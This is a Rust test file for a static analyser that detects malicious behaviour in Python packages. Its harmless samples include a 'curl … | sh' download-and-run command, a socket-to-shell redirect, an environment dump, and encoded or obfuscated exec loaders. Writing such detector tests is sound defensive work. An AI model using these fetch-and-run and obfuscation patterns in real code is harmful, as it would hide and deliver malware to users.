//! Behaviour tests of the Python analysis on harmless reproductions of malware shapes.
#![allow(clippy::unwrap_used)]

use assay_core::ExecutionContext;
use assay_lang::{EventKind, FileRole, Taint, analyze_python};

fn kinds(src: &str, role: FileRole) -> Vec<(EventKind, String, ExecutionContext, Taint, usize)> {
    analyze_python(src.as_bytes(), role)
        .events
        .into_iter()
        .map(|e| (e.kind, e.api, e.context, e.taint, e.chain.len()))
        .collect()
}

#[test]
fn aliases_resolve() {
    let ev = kinds(
        "import subprocess as sp\nfrom os import system as s\nsp.Popen(['x'])\ns('id')\n",
        FileRole::Module,
    );
    assert!(ev.iter().any(|e| e.0 == EventKind::ProcessSpawn
        && e.1 == "subprocess.Popen"
        && e.2 == ExecutionContext::ImportTime));
    assert!(ev.iter().any(|e| e.1 == "os.system"));
}

#[test]
fn context_by_role_and_scope() {
    let ev = kinds(
        "import os\ndef f():\n    os.system('a')\nos.system('b')\nif __name__ == '__main__':\n    os.system('c')\n",
        FileRole::PackageInit,
    );
    let ctx: Vec<_> = ev.iter().map(|e| e.2).collect();
    assert_eq!(
        ctx,
        vec![
            ExecutionContext::Runtime,
            ExecutionContext::ImportTime,
            ExecutionContext::Runtime
        ]
    );
    let ev = kinds(
        "import os\ndef f():\n    os.system('a')\n",
        FileRole::SetupScript,
    );
    assert_eq!(ev[0].2, ExecutionContext::InstallTime);
}

#[test]
fn decode_then_exec_is_followed_into_the_payload() {
    // base64 of "import os; os.system('echo assay-canary')"
    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gYXNzYXktY2FuYXJ5Jyk='))\n";
    let a = analyze_python(src.as_bytes(), FileRole::SetupScript);
    let exec = a
        .events
        .iter()
        .find(|e| e.kind == EventKind::Exec)
        .expect("exec");
    assert!(exec.taint.has(Taint::DECODED));
    let child = a
        .events
        .iter()
        .find(|e| e.api == "os.system")
        .expect("child event");
    assert_eq!(child.chain.len(), 1, "{:?}", child.chain);
    assert_eq!(child.context, ExecutionContext::InstallTime);
}

#[test]
fn taint_flows_through_variables() {
    let src = "import urllib.request\nd = urllib.request.urlopen('http://example.invalid/x').read()\nexec(d)\n";
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    let exec = a
        .events
        .iter()
        .find(|e| e.kind == EventKind::Exec)
        .expect("exec");
    assert!(exec.taint.has(Taint::NETWORK), "{:?}", exec.taint);
    let src = "exec(open('pkg/version.py').read())\n";
    let a = analyze_python(src.as_bytes(), FileRole::SetupScript);
    let exec = a
        .events
        .iter()
        .find(|e| e.kind == EventKind::Exec)
        .expect("exec");
    assert!(exec.taint.has(Taint::FILE_READ) && !exec.taint.has(Taint::DECODED));
}

#[test]
fn chr_joins_and_reversal_fold() {
    let src = "import os\ncmd = ''.join([chr(c) for c in [101, 99, 104, 111]])\nr = 'lanac'[::-1]\nos.system(cmd + ' ' + r)\n";
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    let e = a
        .events
        .iter()
        .find(|e| e.api == "os.system")
        .expect("system");
    assert_eq!(e.arg.as_deref(), Some("echo canal"));
}

#[test]
fn dunder_import_and_getattr() {
    let src = "__import__('os').system('x')\ngetattr(__import__('subprocess'), 'call')(['y'])\n";
    let ev = kinds(src, FileRole::Module);
    assert!(ev.iter().any(|e| e.1 == "os.system"), "{ev:?}");
    assert!(ev.iter().any(|e| e.0 == EventKind::DynamicImport));
}

#[test]
fn dunder_import_of_a_dotted_name_returns_the_top_package() {
    let src = "req = __import__('urllib.request')\nreq.request.urlopen('http://example.invalid/')\nm = __import__('os.path', fromlist=['x'])\n";
    let ev = kinds(src, FileRole::Module);
    assert!(
        ev.iter()
            .any(|e| e.1 == "urllib.request.urlopen" && e.0 == EventKind::Network),
        "{ev:?}"
    );
}

#[test]
fn python_dash_c_payload_is_analysed() {
    let src = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'])\n";
    let a = analyze_python(src.as_bytes(), FileRole::Startup);
    assert!(
        a.events.iter().any(|e| e.kind == EventKind::Exec
            && e.chain.len() == 1
            && e.taint.has(Taint::DECODED)),
        "{:?}",
        a.events
    );
}

#[test]
fn python2_and_broken_files_still_analysed() {
    let src = "import os\nprint 'hello'\nexec 'x=1'\nos.system('id')\ndef (:\n";
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    assert!(a.events.iter().any(|e| e.kind == EventKind::Exec));
    assert!(a.events.iter().any(|e| e.api == "os.system"));
}

#[test]
fn deep_nesting_does_not_overflow() {
    let src = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    assert!(a.truncated);
}

#[test]
fn env_harvest_but_not_env_kwarg() {
    let ev = kinds(
        "import os, json\njson.dumps(dict(os.environ))\n",
        FileRole::Module,
    );
    assert!(ev.iter().any(|e| e.0 == EventKind::EnvHarvest));
    let ev = kinds(
        "import os, subprocess\nsubprocess.run(['make'], env=os.environ)\n",
        FileRole::Module,
    );
    assert!(!ev.iter().any(|e| e.0 == EventKind::EnvHarvest));
}

#[test]
fn setup_command_subclasses() {
    let a = analyze_python(b"from setuptools.command.install import install\nclass X(install):\n    def run(self):\n        pass\n", FileRole::SetupScript);
    assert_eq!(a.command_subclasses, vec!["install".to_owned()]);
}

#[test]
fn zlib_base64_blob_is_decoded() {
    use std::io::Write;
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b"import os\nos.system('echo assay-canary')\n")
        .unwrap();
    let z = e.finish().unwrap();
    use base64::Engine;
    let b = base64::engine::general_purpose::STANDARD.encode(z);
    let src = format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{b}')))\n");
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    let child = a
        .events
        .iter()
        .find(|e| e.api == "os.system")
        .expect("child");
    assert_eq!(child.chain.len(), 1);
}

/// The payload of a decoder the folder sees through is analysed as a child: its
/// `os.system` call shows up with a decode chain.
fn decodes_to_system(src: &str) -> bool {
    analyze_python(src.as_bytes(), FileRole::PackageInit)
        .events
        .iter()
        .any(|e| e.api == "os.system" && !e.chain.is_empty())
}

#[test]
fn folded_decoders_reach_the_payload() {
    // `import os;os.system('id')` as integers.
    let ints = "105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41";
    assert!(decodes_to_system(&format!(
        "exec(bytes([{ints}]).decode())\n"
    )));
    assert!(decodes_to_system(&format!(
        "A, B, C = exec, str, bytes\nA(B(C([{ints}]).decode()))\n"
    )));
    // Atbash char map of `import os;os.system('id')`.
    assert!(decodes_to_system(
        "a = 'abcdefghijklmnopqrstuvwxyz'\nr = a[::-1]\n\
exec(''.join([r[a.index(c)] if c in a else c for c in \"rnklig lh;lh.hbhgvn('rw')\"]))\n"
    ));
    // XOR with a repeating key, in a generator.
    let code = "import os;os.system('id')";
    let key = b"ab";
    let enc: String = code
        .bytes()
        .enumerate()
        .map(|(i, c)| format!("\\x{:02x}", c ^ key[i % 2]))
        .collect();
    let src = format!(
        "d = '{enc}'\nk = 'ab'\nexec(''.join(chr(ord(d[i]) ^ ord(k[i % len(k)])) for i in range(len(d))))\n"
    );
    let a = analyze_python(src.as_bytes(), FileRole::PackageInit);
    assert!(
        a.events
            .iter()
            .any(|e| e.kind == EventKind::Exec && e.taint.has(Taint::DECRYPTED)),
        "{:?}",
        a.events
    );
}

#[test]
fn identifiers_are_nfkc_normalised() {
    let src = "\u{1d608}\u{1d634} = __\u{1d62a}\u{1d62e}\u{1d631}\u{1d630}\u{1d633}\u{1d635}__('os')\n\u{1d608}\u{1d634}.system('id')\n";
    let ev = kinds(src, FileRole::PackageInit);
    assert!(ev.iter().any(|e| e.1 == "os.system"), "{ev:?}");
}

#[test]
fn socket_data_is_tainted_and_dup2_names_its_source() {
    let src = "import socket, os\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)\nexec(s.recv(100))\n";
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    let exec = a.events.iter().find(|e| e.kind == EventKind::Exec).unwrap();
    assert!(exec.taint.has(Taint::SOCKET) && exec.taint.has(Taint::NETWORK));
    let dup = a
        .events
        .iter()
        .find(|e| e.kind == EventKind::FdRedirect)
        .unwrap();
    assert_eq!(dup.arg.as_deref(), Some("socket.socket.fileno -> 0"));
}

/// Calls reached through a computed lookup instead of a plain name (issue 21, item 1):
/// each must resolve to the process call it really is, in the file's own context.
#[test]
fn indirect_calls_resolve_to_their_target() {
    let cmd = "'curl https://example.invalid/x | sh'";
    let cases = [
        format!("import os; getattr(os, 'sys'+'tem')({cmd})"),
        format!("import sys; sys.modules['os'].system({cmd})"),
        format!("import sys; sys.modules.get('o'+'s').system({cmd})"),
        format!("import os; os.__dict__['system']({cmd})"),
        format!("import os; os.__dict__.get('system')({cmd})"),
        format!("import os; vars(os)['system']({cmd})"),
        format!("import os, operator; operator.methodcaller('system', {cmd})(os)"),
        format!("import os, operator; operator.attrgetter('system')(os)({cmd})"),
        format!("import os; (lambda f: f({cmd}))(os.system)"),
        format!("import os; (lambda f, c: f(c))(os.system, {cmd})"),
        format!("getattr(__import__('os'), 'system')({cmd})"),
        format!("import importlib; getattr(importlib.import_module('os'), 'popen')({cmd})"),
        "globals()['__builtins__']['exec']('import os')".to_owned(),
        "import builtins; builtins.__dict__['exec']('import os')".to_owned(),
        "import builtins as b; vars(b)['exec']('import os')".to_owned(),
        "import builtins; getattr(builtins, 'ex'+'ec')('import os')".to_owned(),
    ];
    for src in &cases {
        let ev = kinds(src, FileRole::Startup);
        assert!(
            ev.iter()
                .any(|e| matches!(e.0, EventKind::ProcessSpawn | EventKind::Exec)
                    && e.2 == ExecutionContext::Startup),
            "{src}: {ev:?}"
        );
    }
}

/// The same lookups on ordinary objects name nothing dangerous.
#[test]
fn indirect_lookups_of_ordinary_attributes_stay_quiet() {
    let cases = [
        "import os; getattr(os, 'sep')",
        "import os; getattr(obj, name)()",
        "import sys; sys.modules['json'].dumps({})",
        "import operator; operator.attrgetter('name')(x)",
        "import operator; sorted(xs, key=operator.methodcaller('lower'))",
        "(lambda x: x + 1)(2)",
        "cfg = vars(args)['verbose']",
    ];
    for src in cases {
        let ev = kinds(src, FileRole::Module);
        assert!(
            !ev.iter()
                .any(|e| matches!(e.0, EventKind::ProcessSpawn | EventKind::Exec)),
            "{src}: {ev:?}"
        );
    }
}

/// Issue 21 (memory): a file of many identical `exec(b64decode(…))` lines keeps a bounded
/// number of events (each kind, callee and context at most a few hundred times), so its
/// analysis costs memory by variety, not by repetition; the verdict-relevant events stay.
#[test]
fn repeated_events_are_bounded() {
    let line = "exec(base64.b64decode('eCA9IDEgKyAyCg=='))\n";
    let src = format!("import base64\n{}", line.repeat(5000));
    let a = analyze_python(src.as_bytes(), FileRole::PackageInit);
    let per_kind = |k: EventKind| a.events.iter().filter(|e| e.kind == k).count();
    assert!(per_kind(EventKind::Exec) >= 1);
    assert!(per_kind(EventKind::Exec) <= assay_lang::MAX_EVENTS_PER_SIGNATURE as usize);
    assert!(
        a.events.len() <= 4 * assay_lang::MAX_EVENTS_PER_SIGNATURE as usize,
        "{}",
        a.events.len()
    );
    assert!(a.dropped_events > 0);
}

/// Issue 21 (memory): a module larger than the parse piece is parsed in pieces cut
/// between top-level statements. Positions are those of the whole file, a binding made in
/// the first piece reaches a call in the last, and a statement spanning a would-be cut
/// (a bracketed literal, a triple-quoted string) is never split.
#[test]
fn large_modules_are_parsed_in_pieces_without_losing_state() {
    let mut src = String::from("import os\ncmd = 'curl https://example.invalid/x | sh'\n");
    src.push_str("TABLE = [\n");
    for i in 0..60_000 {
        src.push_str(&format!("    {i},\n"));
    }
    src.push_str("]\nDOC = '''\n");
    for _ in 0..60_000 {
        src.push_str("os.system('not code, inside a string')\n");
    }
    src.push_str("'''\n");
    for i in 0..200_000 {
        src.push_str(&format!("x{} = {i} + 1\n", i % 50));
    }
    let line = src.lines().count() + 1;
    src.push_str("os.system(cmd)\n");
    assert!(src.len() > 4 << 20, "{}", src.len());
    for reduced in [false, true] {
        let a = if reduced {
            assay_lang::analyze_python_reduced(
                src.as_bytes(),
                FileRole::Module,
                &assay_lang::Bounds::default(),
                &|_: &[u8]| false,
            )
        } else {
            analyze_python(src.as_bytes(), FileRole::Module)
        };
        let spawns: Vec<_> = a
            .events
            .iter()
            .filter(|e| e.kind == EventKind::ProcessSpawn)
            .collect();
        assert_eq!(spawns.len(), 1, "reduced={reduced}: {spawns:?}");
        assert_eq!(spawns[0].line as usize, line, "reduced={reduced}");
        assert_eq!(
            spawns[0].arg.as_deref(),
            Some("curl https://example.invalid/x | sh"),
            "reduced={reduced}"
        );
        assert_eq!(a.syntax_errors, 0, "reduced={reduced}");
    }
}

/// A generated argument table repeats the same literals in one function: each value is
/// kept once per function, context and decode chain (its first line), while the same
/// value elsewhere (another function, module level) keeps its own entry.
#[test]
fn repeated_literals_are_kept_once_per_function_and_context() {
    let mut src = String::from("def spec():\n    return [\n");
    for _ in 0..500 {
        src.push_str("        dict(type='str', required=False, default=None),\n");
    }
    src.push_str("    ]\n\ndef other():\n    return 'str'\n\nTABLE = {'type': 'str'}\n");
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    let of = |v: &str| -> Vec<(Option<&str>, u32)> {
        a.strings
            .iter()
            .filter(|s| &*s.value == v)
            .map(|s| (s.function.as_deref(), s.line))
            .collect()
    };
    assert_eq!(
        of("str"),
        vec![(Some("spec"), 3), (Some("other"), 506), (None, 508)],
        "{:?}",
        of("str")
    );
    assert!(a.strings.len() < 10, "{}", a.strings.len());
}

/// `compacted` is an equal deep copy: no string allocation is shared with the original,
/// and values shared inside the original stay shared in the copy.
#[test]
fn compacted_copy_is_equal_and_owns_its_strings() {
    let src = "import os\nA = 'x' * 3\ndef f():\n    os.system('id')\n    return 'same'\ndef g():\n    f()\n    return 'same'\nf()\n";
    let a = analyze_python(src.as_bytes(), FileRole::PackageInit);
    let c = a.compacted();
    assert_eq!(format!("{:?}", a.events), format!("{:?}", c.events));
    assert_eq!(format!("{:?}", a.strings), format!("{:?}", c.strings));
    assert_eq!(
        format!("{:?}", a.local_calls),
        format!("{:?}", c.local_calls)
    );
    assert_eq!(a.imports, c.imports);
    assert_eq!(a.reachable_functions, c.reachable_functions);
    for (x, y) in a.strings.iter().zip(&c.strings) {
        assert!(!std::sync::Arc::ptr_eq(&x.value, &y.value));
    }
    let same: Vec<_> = c.strings.iter().filter(|s| &*s.value == "same").collect();
    assert_eq!(same.len(), 2, "{same:?}");
    assert!(std::sync::Arc::ptr_eq(&same[0].value, &same[1].value));
    assert!(!c.events.is_empty());
}

#[test]
fn helpers_that_download_to_and_run_their_argument_are_seen_at_the_call_site() {
    let src = r#"
import subprocess, requests
def get(url, path):
    r = requests.get(url)
    with open(path, "wb") as f:
        f.write(r.content)
def start(p):
    subprocess.Popen([p, "--quiet"])
def unpack(archive):
    subprocess.run(["tar", "xf", archive])
def main():
    exe = "tool.exe"
    get("https://example.invalid/tool.exe", exe)
    start(exe)
    unpack(exe)
"#;
    let a = analyze_python(src.as_bytes(), FileRole::Module);
    let at_main = |k: EventKind| -> Vec<(String, Option<String>)> {
        a.events
            .iter()
            .filter(|e| e.kind == k && e.function.as_deref() == Some("main"))
            .map(|e| (e.api.clone(), e.arg.clone()))
            .collect()
    };
    assert_eq!(
        at_main(EventKind::CallDownloadsTo),
        vec![("get".to_owned(), Some("tool.exe".to_owned()))]
    );
    // `tar xf archive` starts tar, not the archive: no CallRuns for `unpack`.
    assert_eq!(
        at_main(EventKind::CallRuns),
        vec![("start".to_owned(), Some("tool.exe".to_owned()))]
    );
}

#[test]
fn nth_arg_respects_brackets_strings_and_keywords() {
    use assay_lang::nth_arg;
    assert_eq!(nth_arg("open(p, 'wb')", 0), Some("p"));
    assert_eq!(
        nth_arg("Popen([exe, \"-q\"], cwd=d)", 0),
        Some("[exe, \"-q\"]")
    );
    assert_eq!(nth_arg("f(\"a,b\", g(x, y))", 1), Some("g(x, y)"));
    assert_eq!(nth_arg("run(cmd, shell=True)", 1), None);
    assert_eq!(nth_arg("f()", 0), None);
    assert_eq!(nth_arg("f(a, b", 1), None);
}
